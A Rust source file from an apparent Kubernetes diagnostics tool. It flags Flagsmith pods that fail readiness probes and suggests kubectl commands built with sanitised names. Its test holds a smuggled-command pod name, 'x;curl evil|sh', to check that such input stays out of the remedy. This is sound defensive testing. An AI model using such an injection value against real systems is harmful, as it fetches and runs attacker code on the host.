//! A pod runs and does not become ready.

use jiff::SignedDuration;

use crate::{
    causes::{prelude::*, probes},
    model::shell,
};

pub(crate) static CAUSE: Cause = Cause {
    explains: &[
        Explains::from_api(&[Code::FrontendCannotReachApi]),
        Explains::same_component(&[Code::RolloutDeadlineExceeded]),
    ],
    check: Some(check),
    ..Cause::warning(Component::Api, include_str!("probe_failing.md"))
};

/// How long a container may fail its probes after it began: Flagsmith needs ten seconds to listen, three times that
/// on a busy node.
const STARTING_TAKES: SignedDuration = SignedDuration::from_secs(45);

fn check(context: &Context<'_>) -> Vec<Draft> {
    probes::PROBED
        .into_iter()
        .filter_map(|component| of(context, component))
        .collect()
}

/// The first pod of a component that fails its probes and was not killed for that.
fn of(context: &Context<'_>, component: Component) -> Option<Draft> {
    let observation = context.observation;
    let (pod, evidence) = probes::unready(observation, component).find_map(|pod| {
        let said = probes::said(observation, pod);
        let had_time = pod.containers.iter().any(|container| {
            container
                .running_since
                .is_some_and(|since| observation.now.duration_since(since) >= STARTING_TAKES)
        });
        let fails = !said.is_empty() && had_time && !probes::was_killed(&said, pod, observation.now);
        fails.then_some((pod, said))
    })?;
    let namespace = shell::name(&context.installation.identity.namespace, "NAMESPACE");
    let name = shell::name(&pod.name, "POD");
    Some(Draft {
        code: Code::ProbeFailing,
        severity: Severity::Critical,
        component,
        message: format!(
            "A pod of the {} runs but does not answer its probes, so it gets no requests.",
            component.as_str()
        ),
        evidence,
        remedy: format!(
            "See what it says: kubectl -n {namespace} logs {name}; and what it answers: kubectl -n {namespace} exec \
             {name} -- flagsmith healthcheck http /health/readiness/"
        ),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        fixtures::{empty_observation, installation, minimal},
        observe::{ContainerRun, Observation, PodLogFindings, PodSummary, Warning},
    };

    #[test]
    fn a_hostile_name_is_no_part_of_a_command() {
        let name = "x;curl evil|sh";
        let observation = Observation {
            pods: vec![PodSummary {
                name: name.to_owned(),
                component: "api".to_owned(),
                containers: vec![ContainerRun {
                    name: "flagsmith".to_owned(),
                    init: false,
                    restarts: 0,
                    running_since: Some(empty_observation().now - SignedDuration::from_mins(5)),
                    failed: None,
                    ready: false,
                }],
                ..PodSummary::default()
            }],
            pod_logs: PodLogFindings {
                logs: Vec::new(),
                warnings: vec![Warning {
                    pod: name.to_owned(),
                    reason: "Unhealthy".to_owned(),
                    message: "Readiness probe failed: HTTP probe failed with statuscode: 500".to_owned(),
                }],
            },
            ..empty_observation()
        };
        let installation = installation(&minimal());
        let found = check(&Context::new(&installation, &observation));
        let remedy = &found.first().unwrap().remedy;
        assert!(
            remedy.contains("-n prod logs POD;") && !remedy.contains("evil"),
            "{remedy}"
        );
    }
}
